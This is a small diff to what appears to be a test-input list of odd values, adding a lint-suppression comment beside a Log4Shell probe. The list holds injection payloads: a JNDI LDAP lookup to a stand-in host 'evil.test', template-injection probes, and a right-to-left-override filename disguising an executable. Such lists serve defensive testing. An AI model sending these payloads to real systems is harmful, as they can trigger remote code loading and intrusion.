@@ -151,6 +151,7 @@ export const oddValues = [
   "\u202Egnp.exe",
   "<!--",
   "]]>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is this literal text
   "${jndi:ldap://evil.test/a}",
   "{{7*7}}",
   "<%= 7*7 %>",
